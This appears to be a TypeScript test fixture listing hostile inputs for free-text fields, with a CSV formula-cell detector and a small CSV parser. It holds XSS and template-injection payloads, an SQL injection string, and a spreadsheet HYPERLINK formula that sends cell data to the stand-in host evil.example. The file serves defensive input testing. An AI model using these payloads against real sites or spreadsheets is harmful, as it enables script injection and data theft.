/**
 * Hostile text: what people (or attackers) may type into any free-text field. Script
 * payloads set window.__xss (and some call alert) so a browser test can tell whether
 * anything ran; every entry fits a 120-character name.
 */
export const XSS_FLAG = "__xss";

export const HOSTILE: string[] = [
  `<script>window.__xss=1</script>`,
  `<img src=x onerror="window.__xss=2;alert(2)">`,
  `"><svg onload=window.__xss=3>`,
  `<svg><script>window.__xss=4</script></svg>`,
  `javascript:window.__xss=5//`,
  `<a href="javascript:alert(6)">clic</a>`,
  `<iframe srcdoc="<script>parent.__xss=7</script>">`,
  `</title><script>window.__xss=8</script>`,
  `<details open ontoggle=window.__xss=9>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=10>`,
  `<style>body{display:none}</style>Olla`,
  `'-alert(11)-'`,
  `{{constructor.constructor('window.__xss=12')()}}`,
  "${window.__xss=13}",
  `\u202Eexe.olla\u202C Olla RLO`,
  `Olla\u200B\u200D\uFEFF cero ancho`,
  `=HYPERLINK("http://evil.example/?x="&A1,"Ver")`,
  `=1+1`,
  `+51 987 654 321`,
  `-2+3`,
  `@SUM(1,1)`,
  `\t=1+1`,
  `\r=1+1`,
  ` =1+1`,
  `' OR 1=1 --`,
  `Olla "comillas", comas; y\nsalto`,
];

/** Characters a spreadsheet reads as the start of a formula (OWASP CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;

/** True when a CSV cell would run as a formula in a spreadsheet (plain numbers like -12.05 are fine). */
export function isFormulaCell(cell: string): boolean {
  if (!FORMULA_START.test(cell)) return false;
  return !/^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$/.test(cell);
}

/** A small RFC 4180 parser (quoted fields, doubled quotes, CRLF or LF). */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  const s = text.replace(/^\uFEFF/, "");
  for (let i = 0; i < s.length; i++) {
    const c = s[i]!;
    if (quoted) {
      if (c === '"' && s[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\n" || (c === "\r" && s[i + 1] === "\n")) {
      if (c === "\r") i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else cell += c;
  }
  if (cell !== "" || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}
